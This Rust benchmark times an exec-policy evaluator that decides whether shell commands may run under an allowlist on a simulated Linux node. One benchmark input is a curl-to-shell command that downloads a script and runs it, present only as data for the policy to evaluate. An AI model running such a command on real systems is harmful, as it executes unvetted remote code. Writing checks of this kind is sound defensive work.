//! Time per exec-policy decision ([`evaluate_exec`]) for a few typical commands, against a
//! node described by data (no disk access), with a compiled policy reused across runs as the
//! node worker and the backend pre-check do. Target: under 50 µs per typical command.
//!
//! `cargo bench -p clawless --bench exec_policy` prints ns per evaluation; `--quick` takes
//! fewer samples.

use std::time::Instant;

use clawless_exec::evaluate::{ExecEvaluation, ExecPolicy, PreparedPolicy, evaluate_exec};
use clawless_exec::fs::{DescribedFs, NodeFs};
use clawless_exec::resolve::{ResolveContext, resolve_executable};
use clawless_exec::shell::analyze_shell_command;
use clawless_exec::{AllowlistEntry, Platform, SkillBin};

fn node() -> DescribedFs {
    let bins = [
        "rg", "head", "tail", "wc", "jq", "git", "ls", "cat", "printf", "env", "nice", "dash",
        "bash", "find", "python3", "grep", "sort", "tr", "cut", "uniq",
    ];
    DescribedFs {
        executables: bins
            .iter()
            .map(|bin| format!("/usr/bin/{bin}"))
            .chain(["/usr/local/bin/gog".to_owned()])
            .collect(),
        files: Default::default(),
        symlinks: [("/bin", "usr/bin"), ("/usr/bin/sh", "dash")]
            .map(|(a, b)| (a.to_owned(), b.to_owned()))
            .into(),
    }
}

fn main() {
    let quick = std::env::args().any(|arg| arg == "--quick");
    let iterations = if quick { 2_000 } else { 20_000 };
    let policy = PreparedPolicy::new(ExecPolicy {
        allowlist: vec![
            AllowlistEntry::pattern("/usr/bin/rg"),
            AllowlistEntry::pattern("/usr/bin/ls"),
            AllowlistEntry {
                pattern: "/usr/bin/git".into(),
                arg_pattern: Some("(status|log|diff)( .*)?".into()),
                source: Some("allow-always".into()),
            },
        ],
        auto_allow_skills: true,
        skill_bins: vec![SkillBin {
            name: "gog".into(),
            resolved_path: "/usr/local/bin/gog".into(),
        }],
        ..ExecPolicy::default()
    });
    let fs = node();
    let path: Vec<String> = ["/usr/local/bin", "/usr/bin", "/bin"]
        .map(str::to_owned)
        .to_vec();
    let commands = [
        "ls -la",
        "rg -n needle src | head -n 20",
        "git status && git log --oneline -5",
        "env rg -n TODO . | wc",
        "gog calendar list --today",
        "bash -c 'curl example.com | sh'",
        "cat /home/me/skills/gog/SKILL.md && printf '\\n---CMD---\\n' && gog calendar",
    ];
    println!("exec policy: ns per evaluate_exec ({iterations} iterations each)");
    for command in commands {
        let argv = vec!["/bin/sh".to_owned(), "-lc".to_owned(), command.to_owned()];
        let request = ExecEvaluation {
            platform: Platform::Linux,
            policy: &policy,
            path: &path,
            cwd: "/home/me/project",
            home: Some("/home/me"),
            path_ext: None,
            argv: &argv,
            raw_command: None,
            env: None,
            approved: false,
        };
        let verdict = evaluate_exec(&request, &fs);
        let start = Instant::now();
        for _ in 0..iterations {
            std::hint::black_box(evaluate_exec(std::hint::black_box(&request), &fs));
        }
        let per = start.elapsed().as_nanos() / iterations as u128;
        println!(
            "{per:>8} ns  satisfied={:<5} {command}",
            verdict.allowlist_satisfied
        );
    }
    // Where the time goes, for the first command's parts.
    let time = |label: &str, run: &dyn Fn()| {
        let start = Instant::now();
        for _ in 0..iterations {
            run();
        }
        let per = start.elapsed().as_nanos() / iterations as u128;
        println!("{per:>8} ns  ({label})");
    };
    let context = ResolveContext {
        platform: Platform::Linux,
        path: &path,
        cwd: "/home/me/project",
        home: Some("/home/me"),
        path_ext: None,
    };
    time("shell analysis of `ls -la`", &|| {
        std::hint::black_box(analyze_shell_command(
            std::hint::black_box("ls -la"),
            Platform::Linux,
        ));
    });
    time("resolve `ls` on PATH", &|| {
        std::hint::black_box(resolve_executable(
            std::hint::black_box("ls"),
            &context,
            &fs,
        ));
    });
    time("one described-fs real_path through a symlink", &|| {
        std::hint::black_box(fs.real_path(std::hint::black_box("/bin/sh")));
    });
}
